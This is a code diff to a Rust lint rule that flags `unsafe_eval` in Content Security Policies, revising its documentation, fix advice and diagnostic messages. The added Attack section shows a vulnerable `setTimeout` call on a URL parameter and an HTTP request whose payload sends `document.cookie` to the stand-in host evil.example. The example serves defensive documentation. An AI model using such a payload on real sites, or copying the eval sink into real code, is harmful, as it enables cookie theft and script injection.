@@ -6,13 +6,26 @@ use crate::policy::SecurityPolicy;
 lint! {
     /// # What it does
     ///
-    /// Looks for `unsafe_eval` in the list that decides about `eval`: `script_src`, else `default_src`. Where Trusted
-    /// Types are required the strings have gone through a policy in browsers that know them, and it is a warning.
+    /// Looks for `unsafe_eval` in the list that takes effect for `eval`: that of `script_src`, or else `default_src`.
+    /// If Trusted Types are required, it is a warning, since browsers that support them run only strings that a policy
+    /// has approved.
     ///
     /// # Why it matters
     ///
-    /// `eval`, `new Function` and timers with strings turn any text into script. A value that reaches one of them runs,
-    /// and nonces and hashes are not asked.
+    /// `eval`, `new Function` and timers with a string run text as script. If an attacker's text reaches one of them,
+    /// it runs, and no nonce or hash is checked.
+    ///
+    /// # Attack
+    ///
+    /// A script of the page evaluates a part of the URL:
+    ///
+    /// ```js
+    /// setTimeout(new URLSearchParams(location.search).get("then"), 100);
+    /// ```
+    ///
+    /// ```http
+    /// GET /checkout?then=fetch('//evil.example/?'%2Bdocument.cookie) HTTP/1.1
+    /// ```
     ///
     /// # Example
     ///
@@ -20,16 +33,27 @@ lint! {
     /// content_security_policy: { script_src: [nonce, unsafe_eval], base_uri: none },
     /// ```
     ///
-    /// # Fine
+    /// # Fix
+    ///
+    /// Remove it. WebAssembly needs only `wasm_unsafe_eval`; JSON is read with `JSON.parse`.
     ///
     /// ```text
     /// content_security_policy: { script_src: [nonce, wasm_unsafe_eval], base_uri: none },
     /// ```
     ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_unsafe_eval, reason = "the template library compiles its templates in the browser")]
+    /// script_src: [nonce, unsafe_eval],
+    /// ```
+    ///
+    /// Reasonable where a library needs it and the text does not come from users.
+    ///
     /// # References
     ///
-    /// - [CSP3, section 4.4.1](https://w3c.github.io/webappsec-csp/#can-compile-strings)
-    /// - [MDN, script-src](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/script-src)
+    /// - [CSP3, section 4.4.1, eval](https://w3c.github.io/webappsec-csp/#can-compile-strings)
+    /// - [MDN, script-src, unsafe eval expressions](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/script-src#unsafe_eval_expressions)
     Deny "strings are run as script", check
 }
 
@@ -38,24 +62,24 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
     let is_typed = |csp: &Csp| csp.get(Directive::RequireTrustedTypesFor).is_some();
     let all_typed = policy.csps_of(Disposition::Enforce).into_iter().any(is_typed);
     let weaknesses = policy.weaknesses(&[Directive::ScriptSrc], |csp, list| {
-        let span = list.find(&keyword).filter(|_| list.ignores(&keyword, Purpose::Script).is_none());
+        let span = list.find(&keyword).filter(|_| list.overridden_by(&keyword, Purpose::Script).is_none());
         span.map(|span| (span, list.directive.node, all_typed || is_typed(csp))).into_iter().collect()
     });
     for (span, directive, is_typed) in weaknesses {
-        let message = format!("`unsafe_eval` in `{}` runs strings as script", directive.key());
+        let message = format!("`unsafe_eval` in `{}` lets strings run as script", directive.key());
         let finding = Diagnostic::finding(span, message);
         match is_typed {
             true => report.push_at(
                 Level::Warn,
                 finding
                     .help("write `trusted_types_eval`")
-                    .note("browsers that know Trusted Types ask for them anyway; the others run every string")
+                    .note("browsers that support Trusted Types require them anyway; others run every string")
                     .replace(span, "trusted_types_eval"),
             ),
             false => report.push(
                 finding
                     .help("remove it; for WebAssembly write `wasm_unsafe_eval`, which compiles no strings")
-                    .note("a value that reaches `eval` or a timer runs, whatever the nonce"),
+                    .note("a value that reaches `eval` or a timer runs as script, whatever the nonce"),
             ),
         }
     }
